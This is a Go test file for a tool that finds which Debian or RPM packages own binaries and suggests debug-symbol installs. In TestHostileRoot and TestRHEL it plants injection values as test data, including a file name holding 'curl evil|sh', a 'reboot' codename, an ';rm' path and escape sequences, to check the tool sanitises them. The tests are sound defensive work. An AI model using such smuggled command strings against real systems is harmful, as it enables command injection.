package doctor

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// tree writes files below a new folder.
func tree(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, content := range files {
		file := filepath.Join(root, name)
		err := os.MkdirAll(filepath.Dir(file), 0o755)
		if err == nil {
			err = os.WriteFile(file, []byte(content), 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// TestDpkg compares with dpkg -S for some libraries of this system.
func TestDpkg(t *testing.T) {
	dpkg, err := exec.LookPath("dpkg")
	if err != nil {
		t.Skipf("not a Debian system: %v", err)
	}
	files, err := filepath.Glob("/usr/lib/*/lib*.so.*")
	if err != nil || len(files) == 0 {
		t.Fatal(files, err)
	}
	files = append(files, "/usr/bin/gdb", "/usr/lib/postgresql/15/bin/postgres", "/nonexistent")
	var images []SymbolImage
	for _, f := range files {
		if target, err := filepath.EvalSymlinks(f); err == nil {
			f = target
		}
		images = append(images, SymbolImage{Name: filepath.Base(f), Path: f})
	}
	FindPackages(t.Context(), images)
	args := []string{"-S"}
	for i := range images {
		args = append(args, aliases(images[i].Path)...)
	}
	out, _ := exec.CommandContext(t.Context(), dpkg, args...).Output() // fails for those of no package
	owners := make(map[string]string)
	for line := range strings.Lines(string(out)) {
		pkg, file, ok := strings.Cut(strings.TrimSpace(line), ": ")
		if ok && !strings.HasPrefix(pkg, "diversion") {
			pkg, _, _ = strings.Cut(pkg, ":")
			owners[file] = pkg
		}
	}
	found := 0
	for i := range images {
		want := ""
		for _, p := range aliases(images[i].Path) {
			if owner := owners[p]; owner != "" {
				want = owner
			}
		}
		if images[i].Package != want {
			t.Errorf("%s: %q, dpkg says %q", images[i].Path, images[i].Package, want)
		}
		if want != "" {
			found++
		}
	}
	t.Logf("%d of %d files belong to a package, as dpkg says", found, len(images))
	if found == 0 {
		t.Error("none")
	}
}

// TestForeignRoot looks packages up where the process has them, and a link there does not lead out.
func TestForeignRoot(t *testing.T) {
	root := tree(t, map[string]string{
		"etc/os-release":                       "ID=ubuntu\nID_LIKE=debian\nVERSION_CODENAME=\"noble\"\n",
		"var/lib/dpkg/info/postgresql-16.list": "/.\n/usr\n/usr/lib/postgresql/16/bin/postgres\n",
		"var/lib/dpkg/info/libc6:amd64.list":   "/lib/x86_64-linux-gnu/libc.so.6\n",
		"var/lib/dpkg/info/libfoo1.list":       strings.Repeat("x", 2*maxListLine) + "\n/usr/lib/libfoo.so.1\n",
		"var/lib/dpkg/info/libbar.list":        "/usr/lib/libbar.so.1\n",
		"var/lib/dpkg/info/nothing.md5sums":    "/usr/lib/libbar.so.2\n",
	})
	if err := os.Symlink("/etc/passwd", filepath.Join(root, dpkgInfo, "evil.list")); err != nil {
		t.Fatal(err)
	}
	images := []SymbolImage{
		{Name: "postgres", Path: "/usr/lib/postgresql/16/bin/postgres", BuildID: "abcd", Functions: 10, root: root},
		{Name: "libc.so.6", Path: "/usr/lib/x86_64-linux-gnu/libc.so.6", BuildID: "abcd", Functions: 10, root: root},
		{Name: "libfoo.so.1", Path: "/usr/lib/libfoo.so.1", BuildID: "abcd", Functions: 10, root: root},
		{Name: "libbar.so.1", Path: "/usr/lib/libbar.so.1", BuildID: "abcd", Functions: 10, root: root},
		{Name: "[vdso]", Path: "[vdso]", Functions: 10, Named: 5},
	}
	FindPackages(t.Context(), images)
	got := []string{images[0].DebugPackage, images[1].DebugPackage, images[2].DebugPackage, images[4].DebugPackage}
	if want := []string{"postgresql-16-dbgsym", "libc6-dbg", "", ""}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	advice := strings.Join(SymbolAdvice(images, "again", false), "\n")
	for _, want := range []string{
		"apt install postgresql-16-dbgsym libc6-dbg\nand of the libraries, which few stacks are in:\n" +
			"apt install libbar-dbgsym\n",
		"suite noble", "again --fetch --debuginfod https://debuginfod.ubuntu.com", "of no package: libfoo.so.1",
	} {
		if !strings.Contains(advice, want) {
			t.Errorf("%q is not in\n%s", want, advice)
		}
	}
	if advice := strings.Join(SymbolAdvice(images, "again", true), "\n"); !strings.Contains(advice, "is configured") {
		t.Error(advice)
	}
	own := []SymbolImage{{Name: "x", Path: "/x", BuildID: "abcd", Functions: 1}} // a private server may have it
	if advice := strings.Join(SymbolAdvice(own, "again", true), "\n"); !strings.Contains(advice, "again --fetch") {
		t.Error(advice)
	}
	if advice := SymbolAdvice([]SymbolImage{{Path: "/x", Lines: true, Symtab: true}}, "again", false); len(advice) > 0 {
		t.Errorf("nothing is missing, and yet: %q", advice)
	}
}

// TestHostileRoot: names that a container has made up become no part of a command, and the search does not wait for a
// pipe among the container's lists.
func TestHostileRoot(t *testing.T) {
	root := tree(t, map[string]string{
		"etc/os-release": "ID=debian\nVERSION_CODENAME=\"x; reboot\"\n",
		"var/lib/dpkg/info/libx; curl evil|sh #.list": "/usr/lib/libx.so\n",
		"var/lib/dpkg/info/\x1b]0;y.list":             "/usr/lib/libx.so\n",
		"var/lib/dpkg/info/--option.list":             "/usr/lib/libx.so\n",
		"var/lib/dpkg/info/good.list":                 "/usr/lib/libgood.so\n",
	})
	if err := unix.Mkfifo(filepath.Join(root, dpkgInfo, "pipe.list"), 0o600); err != nil {
		t.Fatal(err)
	}
	images := []SymbolImage{
		{Name: "libx.so", Path: "/usr/lib/libx.so", BuildID: "abcd", Functions: 10, root: root},
		{Name: "libgood.so", Path: "/usr/lib/libgood.so", BuildID: "abcd", Functions: 10, root: root},
		{Name: "z\x1b[31m", Path: "/z", BuildID: "abcd", Functions: 10, Deleted: true, root: root},
	}
	ended := make(chan struct{})
	go func() {
		FindPackages(t.Context(), images)
		close(ended)
	}()
	select {
	case <-ended:
	case <-time.After(time.Minute):
		t.Fatal("the pipe is read")
	}
	if images[0].Package != "" || images[1].Package != "good" {
		t.Errorf("packages %q and %q", images[0].Package, images[1].Package)
	}
	advice := strings.Join(SymbolAdvice(images, "again", false), "\n")
	if strings.ContainsAny(advice, "\x1b") || strings.Contains(advice, "evil") || strings.Contains(advice, "reboot") ||
		!strings.Contains(advice, "good-dbgsym") {
		t.Error(advice)
	}
}

// TestRHEL checks packages by rpm if it is installed, else by PostgreSQL's usual paths.
func TestRHEL(t *testing.T) {
	root := tree(t, map[string]string{
		"usr/lib/os-release": "NAME='Rocky Linux'\nID=\"rocky\"\nID_LIKE=\"rhel centos fedora\"\n",
	})
	images := func(root string) []SymbolImage {
		return []SymbolImage{
			{Name: "postgres", Path: "/usr/bin/postgres", BuildID: "abcd", Functions: 2, root: root},
			{Name: "postgres", Path: "/usr/pgsql-15/bin/postgres", BuildID: "abcd", Functions: 2, root: root},
			{Name: "libx.so", Path: "/usr/lib64/libx.so", Functions: 2, root: root},
			{Name: "postgres", Path: "/usr/pgsql-evil;rm/bin/postgres", Functions: 2, root: root},
		}
	}
	list := images(root)
	FindPackages(t.Context(), list)
	got := []string{list[0].Package, list[1].Package, list[2].Package, list[3].Package}
	if want := []string{"postgresql-server", "postgresql15-server", "", ""}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	advice := strings.Join(SymbolAdvice(list, "again", false), "\n")
	for _, want := range []string{
		"dnf debuginfo-install postgresql-server postgresql15-server", "pgdg", "of no package: libx.so",
	} {
		if !strings.Contains(advice, want) {
			t.Errorf("%q is not in\n%s", want, advice)
		}
	}
	t.Run("rpm", func(t *testing.T) {
		bin := tree(t, map[string]string{"rpm": "#!/bin/sh\n" + `
[ "$1 $2 $4" = "-qf --qf --" ] || exit 9
case $5 in
/usr/bin/postgres) echo postgresql-server ;;
/usr/lib64/libx.so) echo libx ;;
*) echo "file $5 is not owned by any package"; exit 1 ;;
esac`})
		if err := os.Chmod(filepath.Join(bin, "rpm"), 0o755); err != nil {
			t.Fatal(err)
		}
		t.Setenv("PATH", bin+":/usr/bin:/bin")
		s := system{family: []string{"rhel"}}
		list := images("")
		var pointers []*SymbolImage
		for i := range list {
			pointers = append(pointers, &list[i])
		}
		s.rpm(t.Context(), pointers)
		got := []string{list[0].Package, list[1].Package, list[2].DebugPackage, list[1].DebugPackage}
		if want := []string{"postgresql-server", "", "libx-debuginfo", ""}; !slices.Equal(got, want) {
			t.Errorf("got %q, want %q", got, want)
		}
	})
}

// FuzzRelease checks that the printed parts of os-release and the file lists are one line each, whatever these files
// contain.
func FuzzRelease(f *testing.F) {
	f.Add("ID=debian\nVERSION_CODENAME=bookworm\n")
	f.Add("# comment\nID='x'\nID_LIKE=\"a b\"\n\x00=\x1b")
	f.Add("=\n==\nA=\"\n")
	f.Fuzz(func(t *testing.T, data string) {
		for name, value := range parseRelease(data) {
			if strings.ContainsAny(value, "\n\x1b\x00") {
				t.Errorf("%q: %q", name, value)
			}
		}
	})
}
